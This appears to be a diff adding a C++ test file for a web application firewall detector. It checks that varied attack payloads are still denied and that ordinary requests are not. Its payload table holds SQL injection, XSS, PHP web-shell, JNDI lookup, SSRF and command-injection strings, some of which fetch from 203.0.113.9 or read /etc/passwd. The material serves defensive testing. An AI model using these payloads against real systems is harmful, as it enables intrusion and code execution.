@@ -1,0 +1,222 @@
+// Attacks of our own, every variation of them, and ordinary requests changed in ways that say the same.
+#include "tests/support/variations/variations.h"
+
+#include <algorithm>
+#include <map>
+#include <string>
+#include <vector>
+
+#include <fmt/format.h>
+
+#include "tests/detect/quality/judge_support.h"
+#include "tests/support/ordinary/ordinary_values.h"
+#include "tests/support/variations/benign.h"
+#include "tests/support/variations/codings.h"
+
+namespace wafd::detect {
+namespace {
+
+using variations::Attack;
+using variations::Variation;
+
+struct Row {
+  AttackType type;
+  const char* text;
+};
+
+constexpr Row kAttacks[] = {
+    {AttackType::kSqli, "' or 1=1-- "},
+    {AttackType::kSqli, "' union select user,password from accounts-- "},
+    {AttackType::kSqli, "7 union select 1,2,table_name from information_schema.tables"},
+    {AttackType::kSqli, "7 and sleep(5)"},
+    {AttackType::kSqli, "'; drop table orders-- "},
+    {AttackType::kSqli, "7 or 4=4"},
+    {AttackType::kSqli, "7 and extractvalue(1,concat(0x7e,version()))"},
+    {AttackType::kSqli, "'; waitfor delay '0:0:5'-- "},
+    {AttackType::kSqli, "7; select pg_sleep(5)"},
+    {AttackType::kSqli, "' and 1=(select count(*) from all_tables)-- "},
+    {AttackType::kXss, "<script>alert(1)</script>"},
+    {AttackType::kXss, "<img src=x onerror=alert(1)>"},
+    {AttackType::kXss, "<svg onload=alert(document.domain)>"},
+    {AttackType::kXss, "<a href=\"javascript:alert(1)\">a</a>"},
+    {AttackType::kXss, "<iframe src=javascript:alert(1)>"},
+    {AttackType::kXss, "<body onpageshow=alert(1)>"},
+    {AttackType::kXss, "<details open ontoggle=alert(1)>"},
+    {AttackType::kCmdInjection, "7; cat /etc/passwd"},
+    {AttackType::kCmdInjection, "7 | id"},
+    {AttackType::kCmdInjection, "a.png;wget http://203.0.113.9/x -O /tmp/x"},
+    {AttackType::kCmdInjection, "$(curl http://203.0.113.9/)"},
+    {AttackType::kCmdInjection, "`whoami`"},
+    {AttackType::kCmdInjection, "7 && uname -a"},
+    {AttackType::kPathTraversal, "../../../../etc/passwd"},
+    {AttackType::kPathTraversal, "../../../WEB-INF/web.xml"},
+    {AttackType::kPathTraversal, "/etc/passwd"},
+    {AttackType::kFileInclusion, "php://filter/convert.base64-encode/resource=index"},
+    {AttackType::kFileInclusion, "expect://id"},
+    {AttackType::kCodeInjection, "<?php system($_GET['c']); ?>"},
+    {AttackType::kCodeInjection, "<?php echo shell_exec('id'); ?>"},
+    {AttackType::kExpressionInjection, "${jndi:ldap://203.0.113.9/a}"},
+    {AttackType::kExpressionInjection, "${T(java.lang.Runtime).getRuntime().exec('id')}"},
+    {AttackType::kExpressionInjection, "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"},
+    {AttackType::kSsti, "{{''.__class__.__mro__[1].__subclasses__()}}"},
+    {AttackType::kSsti, "{{ self.__class__.__init__.__globals__ }}"},
+    {AttackType::kSsrf, "http://169.254.169.254/latest/meta-data/"},
+    {AttackType::kSsrf, "gopher://127.0.0.1:6379/_INFO"},
+    {AttackType::kXpathInjection, "' or count(//user)=1 or 'a'='b"},
+    {AttackType::kLdapInjection, "*)(uid=*))(|(uid=*"},
+};
+
+// What is known to be lost: variation, beginning of the attack (empty: any).
+struct Exception {
+  const char* variation;
+  const char* attack;
+  const char* why;
+};
+constexpr Exception kExceptions[] = {
+    {"path /etc/init.d/../passwd", "/etc/passwd", "an absolute path that climbs out of one folder alone"},
+    {"sh {cat,file}", "a.png;wget", "a list in braces holds a URL"},
+    {"to a path segment", "/etc/passwd", "a path may end in any names; only its climbing tells"},
+};
+
+bool excepted(const Variation& variation, const Row& row) {
+  return std::any_of(std::begin(kExceptions), std::end(kExceptions), [&](const Exception& one) {
+    return std::string_view(variation.name) == one.variation &&
+           std::string_view(row.text).starts_with(one.attack);
+  });
+}
+
+TEST(Variations, OfAnAttackAreAttacks) {
+  std::map<std::string, std::size_t> tried;
+  std::size_t lost = 0;
+  std::string varied;
+  for (const Row& row : kAttacks) {
+    const Attack attack = variations::attack_of(row.type, row.text);
+    judge().inspect(attack.request.octets);
+    ASSERT_TRUE(judge().denies(Sensitivity::kBalanced)) << row.text;
+    for (const Variation& variation : variations::all_variations()) {
+      if (!variations::vary(variation, attack, varied)) continue;
+      ++tried[variation.name];
+      judge().inspect(varied);
+      if (judge().denies(Sensitivity::kBalanced) || excepted(variation, row)) continue;
+      ++lost;
+      ADD_FAILURE() << variation.name << " (" << variation.holds << ") of " << row.text << ": "
+                    << judge().why();
+    }
+  }
+  EXPECT_EQ(lost, 0u);
+  std::size_t sum = 0;
+  for (const auto& [name, count] : tried) sum += count;
+  fmt::print("{} variations of {} attacks by {} rules\n", sum, std::size(kAttacks), tried.size());
+  EXPECT_GE(sum, 1500u);
+  EXPECT_GE(tried.size(), 150u);
+}
+
+// The bodies and queries that ordinary pages send, from the ordinary values.
+std::vector<std::string> ordinary_requests() {
+  std::vector<std::string> out;
+  const std::vector<ordinary::Value> values = ordinary::ordinary_values(900, 7);
+  for (std::size_t i = 0; i + 2 < values.size(); i += 3) {
+    const std::string a = variations::percent_encode(values[i].text, "._-~");
+    const std::string b = variations::percent_encode(values[i + 1].text, "._-~");
+    out.push_back(variations::make_request(fmt::format("/shop/items?page={}&q={}&sort={}", i, a, b), "", ""));
+    out.push_back(variations::make_request("/shop/note?from=" + a, "application/x-www-form-urlencoded",
+                                           fmt::format("id={}&title={}&text={}", i, b, a)));
+    out.push_back(variations::make_request(
+        "/api/note", "application/json",
+        fmt::format(R"({{"id":{},"title":"{}","tags":["{}","x"],"meta":{{"draft":false}}}})", i,
+                    variations::json_escape(values[i].text), variations::json_escape(values[i + 2].text))));
+  }
+  return out;
+}
+
+TEST(Variations, OfAnOrdinaryRequestAreOrdinary) {
+  std::map<std::string, std::size_t> tried;
+  std::string changed;
+  for (const std::string& octets : ordinary_requests()) {
+    judge().inspect(octets);
+    const bool balanced = judge().denies(Sensitivity::kBalanced);
+    const bool strict = judge().denies(Sensitivity::kStrict);
+    const auto request = variations::read_request(octets);
+    for (const auto& one : variations::benign_changes()) {
+      if (!one.change(request, changed)) continue;
+      ++tried[one.name];
+      judge().inspect(changed);
+      EXPECT_TRUE(balanced || !judge().denies(Sensitivity::kBalanced)) << one.name << "\n"
+                                                                       << changed << judge().why();
+      EXPECT_TRUE(strict || !judge().denies(Sensitivity::kStrict)) << one.name << "\n"
+                                                                   << changed << judge().why();
+    }
+  }
+  EXPECT_EQ(tried.size(), variations::benign_changes().size()) << "every change applied to something";
+}
+
+// Strict denies what balanced denies, balanced what low denies.
+TEST(Variations, AHigherSensitivityDeniesMore) {
+  std::size_t denied[3] = {0, 0, 0};
+  std::string varied;
+  for (const Row& row : kAttacks) {
+    const Attack attack = variations::attack_of(row.type, row.text);
+    for (const Variation& variation : variations::all_variations()) {
+      if (!variations::vary(variation, attack, varied)) continue;
+      // Cut and spliced too: half an attack is where the levels differ.
+      for (const std::size_t size : {varied.size(), varied.size() * 3 / 4, varied.size() / 2}) {
+        judge().inspect(std::string_view(varied).substr(0, size));
+        const bool low = judge().denies(Sensitivity::kLow);
+        const bool balanced = judge().denies(Sensitivity::kBalanced);
+        const bool strict = judge().denies(Sensitivity::kStrict);
+        ASSERT_TRUE(!low || balanced) << varied;
+        ASSERT_TRUE(!balanced || strict) << varied;
+        denied[0] += low ? 1 : 0;
+        denied[1] += balanced ? 1 : 0;
+        denied[2] += strict ? 1 : 0;
+      }
+    }
+  }
+  EXPECT_LE(denied[0], denied[1]);
+  EXPECT_LT(denied[1], denied[2]);
+}
+
+// A header that carries no finding says nothing: without all of those, the same is found.
+TEST(Variations, HeadersWithoutFindingsDecideNothing) {
+  const auto strip = [](const std::string& octets) {
+    const auto request = variations::read_request(octets);
+    std::string out = octets;
+    std::vector<std::pair<std::size_t, std::size_t>> gone;
+    for (const auto& leaf : request.leaves) {
+      if (leaf.place != variations::Place::kHeader) continue;
+      bool carries = false;
+      for (const Finding& finding : judge().verdict().findings)
+        carries =
+            carries || (!finding.in_body && finding.raw_begin < leaf.end && leaf.begin < finding.raw_end);
+      if (carries || leaf.name == "Content-Type" || leaf.name == "Content-Encoding") continue;
+      gone.emplace_back(octets.rfind('\n', leaf.begin) + 1, octets.find('\n', leaf.end) + 1);
+    }
+    for (std::size_t i = gone.size(); i-- > 0;) out.erase(gone[i].first, gone[i].second - gone[i].first);
+    return out;
+  };
+  std::size_t compared = 0;
+  const auto compare = [&](const std::string& octets) {
+    judge().inspect(octets);
+    const bool before[] = {judge().denies(Sensitivity::kLow), judge().denies(Sensitivity::kBalanced),
+                           judge().denies(Sensitivity::kStrict)};
+    const std::string stripped = strip(octets);
+    EXPECT_LT(stripped.size(), octets.size());
+    judge().inspect(stripped);
+    EXPECT_EQ(judge().denies(Sensitivity::kLow), before[0]) << octets;
+    EXPECT_EQ(judge().denies(Sensitivity::kBalanced), before[1]) << octets;
+    EXPECT_EQ(judge().denies(Sensitivity::kStrict), before[2]) << octets;
+    ++compared;
+  };
+  std::string varied;
+  for (const Row& row : kAttacks) {
+    const Attack attack = variations::attack_of(row.type, row.text);
+    for (const Variation& variation : variations::all_variations()) {
+      if (variations::vary(variation, attack, varied)) compare(varied);
+    }
+  }
+  for (const std::string& octets : ordinary_requests()) compare(octets);
+  EXPECT_GE(compared, 2000u);
+}
+
+}  // namespace
+}  // namespace wafd::detect
